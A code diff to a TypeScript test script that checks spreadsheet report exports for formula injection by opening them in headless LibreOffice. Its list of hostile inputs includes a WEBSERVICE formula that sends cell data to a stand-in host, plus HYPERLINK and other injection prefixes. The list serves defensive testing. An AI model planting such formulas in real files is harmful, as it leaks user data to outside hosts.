@@ -3,7 +3,7 @@
  * every text of every column, and counts the formulas that it made of them. Ends with 1 when there is one.
  */
 import { execFileSync } from 'node:child_process'
-import { createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs'
+import { createWriteStream, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { Readable } from 'node:stream'
@@ -14,6 +14,7 @@ import { JOURNAL_COLUMNS } from '#reports/server/export-journal.ts'
 import { PURCHASE_COLUMNS } from '#reports/server/export-purchases.ts'
 import { writeXlsx } from '#reports/server/xlsx.ts'
 
+const SOFFICE = '/usr/bin/soffice'
 const LINK = '=HYPERLINK("http://x.test";"Ana")'
 const HOSTILE = [
   ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '%1', '|1', LINK, '=WEBSERVICE("http://x.test/"&A1)', '{=1+1}', "'=1+1"],
@@ -73,7 +74,7 @@ function open(file: string, separator?: number): { formulas: string[]; texts: nu
       ? []
       : [`--infilter=Text - txt - csv (StarCalc):${separator},34,76,1,,,false,false,,,,,true`]
   const args = ['--headless', '--norestore', `-env:UserInstallation=file://${folder}/profile`, ...filter]
-  execFileSync('soffice', [...args, '--convert-to', 'fods', '--outdir', folder, join(folder, file)], {
+  execFileSync(SOFFICE, [...args, '--convert-to', 'fods', '--outdir', folder, join(folder, file)], {
     stdio: 'ignore',
   })
   const sheet = readFileSync(join(folder, file.replace(/\.\w+$/, '.fods')), 'utf8')
@@ -110,9 +111,7 @@ async function look<Row>(name: string, columns: readonly Column<Row>[], sample: 
   }
 }
 
-try {
-  execFileSync('soffice', ['--version'], { stdio: 'ignore' })
-} catch {
+if (!existsSync(SOFFICE)) {
   say('LibreOffice is missing: apt-get install libreoffice-calc-nogui')
   process.exit(1)
 }
